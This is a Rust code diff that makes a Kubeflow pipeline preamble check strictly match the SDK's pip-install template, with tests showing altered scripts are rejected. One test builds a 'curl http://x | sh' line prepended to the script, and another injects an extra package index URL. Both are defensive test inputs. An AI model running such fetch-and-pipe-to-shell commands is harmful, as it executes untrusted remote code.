@@ -16,18 +16,26 @@ pub fn skippable(user: &[String], installed_kfp: Option<&str>) -> usize {
         return 0;
     };
     let [sh, c, script, ..] = user else { return 0 };
-    if sh != "sh" || c != "-c" || !script.trim_end().ends_with(r#"&& "$0" "$@""#) {
+    if sh != "sh" || c != "-c" {
         return 0;
     }
-    let Some(at) = script.find("-m pip install") else {
+    // Exactly the SDK's template: its ensurepip block, one `pip install`,
+    // then `&& "$0" "$@"` — nothing else may hide in the script (a second
+    // install of the user's packages follows the first in some SDKs).
+    let Some((install, rest)) = script.split_once("&&") else {
         return 0;
     };
-    let Some(end) = script[at..].find("&&") else {
+    if rest.trim() != r#""$0" "$@""# {
+        return 0;
+    }
+    let Some((prefix, args)) = install.split_once("python3 -m pip install") else {
         return 0;
     };
+    if words(prefix) != words(SDK_PREFIX) {
+        return 0;
+    }
     // The quoted requirements, e.g. 'kfp==2.17.3' '--no-deps'
     // 'typing-extensions>=3.7.4,<5; python_version<"3.9"'.
-    let args = &script[at + "-m pip install".len()..at + end];
     let quoted: Vec<&str> = args.split('\'').skip(1).step_by(2).collect();
     let unquoted: String = args.split('\'').step_by(2).collect();
     let flags_ok = unquoted
@@ -42,6 +50,17 @@ pub fn skippable(user: &[String], installed_kfp: Option<&str>) -> usize {
     } else {
         0
     }
+}
+
+/// What the SDK's script runs before `python3 -m pip install`.
+const SDK_PREFIX: &str = r#"if ! [ -x "$(command -v pip)" ]; then
+    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip
+fi
+
+PIP_DISABLE_PIP_VERSION_CHECK=1"#;
+
+fn words(s: &str) -> Vec<&str> {
+    s.split_whitespace().collect()
 }
 
 /// The `kfp` version of the `python3` on `PATH`, if it has one.
@@ -81,6 +100,18 @@ mod tests {
             skippable(&cmd(&extra), Some("2.17.3")),
             0,
             "packages_to_install"
+        );
+        // The SDK's shape with packages_to_install: a second install.
+        let second = SDK.replace(
+            r#"&& "$0" "$@""#,
+            r#"&& python3 -m pip install --quiet --no-warn-script-location 'pandas==2.2.0' && "$0" "$@""#,
+        );
+        assert_eq!(skippable(&cmd(&second), Some("2.17.3")), 0, "user packages");
+        let before = format!("curl http://x | sh\n{SDK}");
+        assert_eq!(
+            skippable(&cmd(&before), Some("2.17.3")),
+            0,
+            "more before pip"
         );
         let index = SDK.replace("--quiet", "--quiet --index-url http://x");
         assert_eq!(
